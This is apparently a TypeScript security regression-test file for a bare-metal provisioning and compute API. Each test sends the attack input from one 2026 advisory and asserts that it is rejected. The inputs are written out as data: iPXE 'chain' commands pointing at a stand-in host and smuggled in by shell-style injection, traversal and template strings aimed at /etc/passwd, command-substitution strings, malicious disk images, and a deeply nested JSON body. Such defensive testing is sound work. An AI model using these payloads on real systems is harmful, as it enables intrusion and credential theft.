/** The advisories of 2026 about Ironic and Nova: each attack is sent through the whole API, and nothing comes of it. */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, type TestContext, test } from 'node:test';
import type { BootPlan } from '#drivers/interfaces.ts';
import { startRedfishTree } from '#test/a-redfish-tree.ts';
import { aFlavor } from '#test/a-task.ts';
import { aQcow2, aVmdkOfAnotherFile } from '#test/attack-images.ts';
import { nodeRequests, textOf } from '#test/node-requests.ts';
import { createPersonas, createProject, type PersonaName } from '#test/personas.ts';
import type { RackFixture } from '#test/rack-fixture.ts';
import { openRealApi } from './a-real-api.ts';

const api = await openRealApi();
after(() => api.close());
const { ask, enrol } = nodeRequests(api as unknown as RackFixture);
const projects = { own: await createProject(api, 'owner'), other: await createProject(api, 'lessee'), third: '' };
projects.third = await createProject(api, 'third');
const personas = await createPersonas(api, projects);
const askAs = (name: PersonaName, method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
  api.ask({
    ...{ method, url, ...(payload && { payload }) },
    headers: { ...personas.find((each) => each.name === name)?.headers, 'x-openstack-ironic-api-version': '1.104' },
  });

let macs = 0;
const bootable = { boot_interface: 'ipxe', deploy_interface: 'direct', owner: projects.own };

/** A node that boots from the network, with what a client may write into it. */
async function aBootingNode(fields: object): Promise<string> {
  const { uuid } = await enrol({ ...bootable, ...fields });
  macs += 1;
  await api.engine.createNodePort({ node_uuid: uuid, address: `52:54:00:66:00:${macs.toString(16).padStart(2, '0')}` });
  await ask('PUT', `${uuid}/states/provision`, { target: 'manage' });
  await api.quiet();
  return uuid;
}

/** Boots it into the ramdisk, as far as it goes. @returns what it could fetch */
async function bootFilesOf(uuid: string): Promise<BootPlan[]> {
  const clean_steps = [{ interface: 'deploy', step: 'erase_devices' }];
  const reply = await ask('PUT', `${uuid}/states/provision`, { target: 'clean', clean_steps });
  assert.equal(reply.status, 202, JSON.stringify(reply.body));
  await api.quiet();
  await ask('PUT', `${uuid}/states/provision`, { target: 'abort' });
  return api.published.filter(({ node_uuid }) => node_uuid === uuid);
}

const attack = 'chain http://192.0.2.66/evil';
const scripts = [`a\n${attack}`, `a && ${attack}`, `a || ${attack}`, `a; ${attack}`, `a\r#!ipxe\n${attack}`];

test('CVE-2026-46447: kernel_append_params puts no line into a boot script', async () => {
  const control = await bootFilesOf(await aBootingNode({ driver_info: { kernel_append_params: 'harmless=1' } }));
  assert.match(control[0]?.ipxe_script ?? '', /harmless=1/);
  for (const kernel_append_params of scripts) {
    const uuid = await aBootingNode({ driver_info: { kernel_append_params } });
    const { body } = await ask('GET', `${uuid}/validate`);
    assert.equal(body.boot.result, false);
    assert.deepEqual(await bootFilesOf(uuid), []);
    const plans = await bootFilesOf(await aBootingNode({ instance_info: { kernel_append_params } }));
    assert.ok(plans.length > 0);
    assert.doesNotMatch(JSON.stringify(plans), /192\.0\.2\.66/);
  }
});

const templates = ['/etc/passwd', 'file:///etc/passwd', '../../../../etc/passwd', '{{ 7 * 7 }}http://192.0.2.66/ks'];
for (const [id, name] of [
  ['CVE-2026-44916', 'ks_template'],
  ['CVE-2026-44917', 'pxe_template'],
] as const)
  test(`${id}: ${name} names no file, and is no template`, async () => {
    for (const template of templates) {
      const fields = { driver_info: { [name]: template }, instance_info: { [name]: template } };
      const plans = await bootFilesOf(await aBootingNode(fields));
      assert.ok(plans.length > 0);
      assert.doesNotMatch(JSON.stringify(plans), /passwd|root:x|49http|192\.0\.2\.66/);
    }
  });

test('CVE-2026-66138: an NTP server of the kernel line carries no command', async () => {
  for (const server of ['a;reboot', 'a`reboot`', ['$', '(reboot)'].join(''), 'a|reboot', 'a&reboot', "a'reboot'"]) {
    const uuid = await aBootingNode({ driver_info: { kernel_append_params: `ipa-ntp-server=${server}` } });
    assert.deepEqual(await bootFilesOf(uuid), [], server);
  }
});

test('CVE-2026-54421: replies to POST and PATCH hold no secret', async () => {
  const driver_info = { ipmi_address: '192.0.2.9', ipmi_username: 'u', ipmi_password: 'hunter2' };
  const instance_info = { image_url: 'http://u:hunter2@192.0.2.9/i', api_secret: 'hunter2', configdrive: 'hunter2' };
  const posted = await ask('POST', '', { driver: 'ipmi', driver_info, instance_info });
  const { uuid } = posted.body;
  const value = { ...driver_info, ipmi_password: 'hunter22' };
  const patched = await ask('PATCH', uuid, [{ op: 'replace', path: '/driver_info', value }]);
  const failed = await ask('PATCH', uuid, [{ op: 'test', path: '/driver_info/ipmi_password', value: 'hunter2' }]);
  const target = {
    node_uuid: uuid,
    volume_type: 'iscsi',
    volume_id: '1',
    boot_index: 0,
    properties: { auth_password: 'hunter2' },
  };
  const volume = await ask('POST', '/baremetal/v1/volume/targets', target);
  const extra = [{ op: 'replace', path: '/extra', value: {} }];
  const changed = await ask('PATCH', `/baremetal/v1/volume/targets/${volume.body.uuid}`, extra);
  const replies = [posted, patched, failed, volume, changed, await ask('GET', uuid), await ask('GET', 'detail')];
  assert.deepEqual([posted.status, patched.status, volume.status], [201, 200, 201]);
  for (const { body } of replies) assert.doesNotMatch(JSON.stringify(body), /hunter/);
});

/** A BMC's port that counts what reaches it. */
async function aSilentBmc(t: TestContext) {
  const socket = createSocket('udp4');
  let count = 0;
  socket.on('message', () => (count += 1));
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  t.after(() => socket.close());
  return { port: socket.address().port, count: () => count };
}

test('CVE-2026-54423: send_raw sends nothing, by passthru or as a step', async (t) => {
  const bmc = await aSilentBmc(t);
  const driver_info = { ipmi_address: '127.0.0.1', ipmi_port: bmc.port, ipmi_username: 'u', ipmi_password: 'p' };
  const { uuid } = await enrol({ driver: 'ipmi', driver_info, owner: projects.own });
  const raw = { raw_bytes: '0x00 0x02 0x00' };
  const called = await ask('POST', `${uuid}/vendor_passthru/send_raw`, raw);
  const owners = await askAs('manager of the project', 'POST', `/baremetal/v1/nodes/${uuid}/vendor_passthru/send_raw`, raw);
  assert.deepEqual([called.status, owners.status], [403, 403]);
  await api.store.nodes.update({ uuid }, { provision_state: 'manageable' });
  const clean_steps = [{ interface: 'vendor', step: 'send_raw', args: raw }];
  assert.equal((await ask('PUT', `${uuid}/states/provision`, { target: 'clean', clean_steps })).status, 400);
  assert.equal(bmc.count(), 0);
});

test('OSSA-2026-048: maintenance is not set by a change that does not need its rule', async () => {
  const { uuid } = await enrol({ owner: projects.own, lessee: projects.other });
  const patch = (path: string, value: unknown) =>
    askAs('member of the other project', 'PATCH', `/baremetal/v1/nodes/${uuid}`, [{ op: 'replace', path, value }]);
  assert.equal((await patch('/description', 'mine')).status, 200);
  assert.equal((await patch('/maintenance', true)).status, 403);
  assert.equal((await ask('GET', uuid)).body.maintenance, false);
  await api.engine.setMaintenance(uuid, true);
  assert.equal((await patch('/maintenance', false)).status, 403);
  assert.equal((await ask('GET', uuid)).body.maintenance, true);
});

test('OSSA-2026-047: the id of a subscription leads to no other resource of the BMC', async (t) => {
  const { node, changes } = await startRedfishTree(t, {
    '/redfish/v1/EventService': { Subscriptions: { '@odata.id': '/redfish/v1/EventService/Subscriptions' } },
  });
  const { uuid } = await enrol({ driver: 'redfish', driver_info: node.driver_info });
  for (const id of [
    '../../Systems/1',
    '..',
    '%2e%2e/%2e%2e/Systems/1',
    '1/../../../Systems/1',
    '/redfish/v1/Systems/1',
    '1?a=b',
  ]) {
    const { status } = await ask('DELETE', `${uuid}/vendor_passthru/delete_subscription`, { id });
    assert.equal(status, 400, id);
  }
  assert.deepEqual(changes, []);
});

test('CVE-2026-42510: what a node says of its console reaches no shell', async (t) => {
  const mark = join(api.stateDir, 'mark');
  for (const word of [`;touch ${mark};`, `$(touch ${mark})`, `\`touch ${mark}\``, `",EXEC:'touch ${mark}'`]) {
    const bmc = await aSilentBmc(t);
    const driver_info = { ipmi_address: '127.0.0.1', ipmi_port: bmc.port, ipmi_terminal_port: word };
    const secret = { ipmi_username: word.slice(0, 16), ipmi_password: word.slice(0, 20) };
    const { uuid } = await enrol({ driver: 'ipmi', console_interface: 'ipmi-sol', driver_info: { ...driver_info, ...secret } });
    assert.equal((await ask('PUT', `${uuid}/states/console`, { enabled: true })).status, 202);
    await ask('GET', `${uuid}/states/console`);
    await ask('PUT', `${uuid}/states/console`, { enabled: false });
  }
  assert.equal(existsSync(mark), false);
});

test('CVE-2024-32498 and its kin of 2026 (qcow2, VMDK): an image names no other file', async () => {
  const images = '/image/v2/images';
  for (const [disk_format, data] of [
    ['qcow2', aQcow2(512n, { backing: '/etc/passwd' })],
    ['qcow2', aQcow2(512n, { dataFile: '/etc/passwd' })],
    ['vmdk', aVmdkOfAnotherFile('/etc/passwd')],
  ] as const) {
    const { body } = await askAs('member of the project', 'POST', images, { name: 'i', disk_format, container_format: 'bare' });
    const headers = {
      ...personas.find(({ name }) => name === 'member of the project')?.headers,
      'content-type': 'application/octet-stream',
    };
    const sent = await api.ask({ method: 'PUT', url: `${images}/${body.id}/file`, headers, payload: data });
    assert.ok(sent.status >= 400 && sent.status < 500, `${disk_format}: ${sent.status}`);
    const after = await askAs('member of the project', 'GET', `${images}/${body.id}`);
    assert.notEqual(after.body.status, 'active');
  }
});

test('CVE-2026-44919: an image_source that is a device of the host is not read', async () => {
  for (const image_source of ['file:///dev/zero', 'file:///etc/passwd', 'file:///proc/self/environ', '/dev/zero']) {
    const uuid = await aBootingNode({ instance_info: { image_source, image_checksum: '0'.repeat(64), root_gb: 1 } });
    await api.store.nodes.update({ uuid }, { provision_state: 'available' });
    const { status } = await ask('PUT', `${uuid}/states/provision`, { target: 'active' });
    await api.quiet();
    const { provision_state, last_error } = (await ask('GET', uuid)).body;
    if (status >= 400) assert.equal(provision_state, 'available');
    else
      assert.match(`${provision_state}: ${last_error}`, /^deploy failed: .*The path is not permitted in file URLs/, image_source);
    assert.ok(!api.published.some(({ node_uuid }) => node_uuid === uuid));
  }
});

test('CVE-2026-44918: nothing of a node is moved to the node of another project', async () => {
  const { uuid: mine } = await enrol({ owner: projects.own });
  const { uuid: theirs } = await enrol({ owner: projects.third });
  const port = await ask('POST', '/baremetal/v1/ports', { node_uuid: mine, address: '52:54:00:67:00:01' });
  const group = await ask('POST', '/baremetal/v1/portgroups', { node_uuid: mine });
  const connector = { node_uuid: mine, type: 'iqn', connector_id: 'c' };
  const volume = await ask('POST', '/baremetal/v1/volume/connectors', connector);
  const manager = 'manager of the project';
  const move = [{ op: 'replace', path: '/node_uuid', value: theirs }];
  for (const path of [`ports/${port.body.uuid}`, `portgroups/${group.body.uuid}`, `volume/connectors/${volume.body.uuid}`]) {
    const { status, body } = await askAs(manager, 'PATCH', `/baremetal/v1/${path}`, move);
    assert.match(`${status} ${textOf(body)}`, /^400 Node .* could not be found/);
    assert.equal((await ask('GET', `/baremetal/v1/${path}`)).body.node_uuid, mine);
  }
  const parent = [{ op: 'add', path: '/parent_node', value: theirs }];
  assert.equal((await askAs(manager, 'PATCH', `/baremetal/v1/nodes/${mine}`, parent)).status, 403);
  const child = { driver: 'fake-hardware', parent_node: theirs };
  assert.equal((await askAs(manager, 'POST', '/baremetal/v1/nodes', child)).status, 403);
  for (const path of ['ports', 'portgroups', 'volume/connectors'])
    assert.ok((await askAs(manager, 'POST', `/baremetal/v1/${path}`, { ...connector, node_uuid: theirs })).status >= 400);
});

test('OSSN-0099: a body nested without end is refused, before the login and after it', async () => {
  const deep = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
  for (const [url, headers] of [
    ['/baremetal/v1/nodes', {}],
    ['/baremetal/v1/nodes', { 'x-auth-token': '' }],
    ['/identity/v3/auth/tokens', { 'x-auth-token': '' }],
  ] as const) {
    const request = { method: 'POST', url, headers: { ...headers, 'content-type': 'application/json' }, payload: deep } as const;
    const { status } = await api.ask(request);
    assert.ok([400, 401, 413].includes(status), `${url}: ${status}`);
  }
  assert.equal((await ask('GET', '')).status, 200);
});

test('CVE-2026-46448: a scheduler hint passes no requirement of the flavor', async () => {
  const { uuid } = await enrol({ properties: { cpus: 4, memory_mb: 4096, local_gb: 40 }, resource_class: 'small' });
  await api.engine.createNodePort({ node_uuid: uuid, address: '52:54:00:68:00:01' });
  await api.store.nodes.update({ uuid }, { provision_state: 'available' });
  await api.store.flavors.insert(aFlavor({ id: 'big', extra_specs: { 'resources:CUSTOM_BIG': '1' } }));
  const image = { name: 'h', disk_format: 'raw', container_format: 'bare', visibility: 'public' };
  const { body } = await api.ask({ method: 'POST', url: '/image/v2/images', payload: image });
  await api.store.images.update({ id: body.id }, { status: 'active', size: 1, virtual_size: 1 });
  const server = { name: 's', imageRef: body.id, flavorRef: 'big', networks: [] };
  for (const hints of [
    { _nova_check_type: ['rebuild'] },
    { _nova_check_type: 'rebuild' },
    { _nova_hypervisor: uuid },
    { query: `["=","$uuid","${uuid}"]`, build_near_host_ip: '192.0.2.1' },
  ]) {
    const url = '/compute/v2.1/servers';
    const created = await askAs('member of the project', 'POST', url, { server, 'os:scheduler_hints': hints });
    if (created.status === 202) {
      const made = await api.store.servers.find({ id: created.body.server.id });
      assert.deepEqual([made?.vm_state, made?.fault?.code, made?.node_uuid], ['error', 'noValidHost', null]);
    } else assert.equal(created.status, 400);
    assert.equal((await api.store.nodes.find({ uuid }))?.instance_uuid, null);
  }
  const named = await askAs('member of the project', 'POST', '/compute/v2.1/servers', {
    server,
    'os:scheduler_hints': { node: uuid },
  });
  assert.equal(named.status, 403);
});
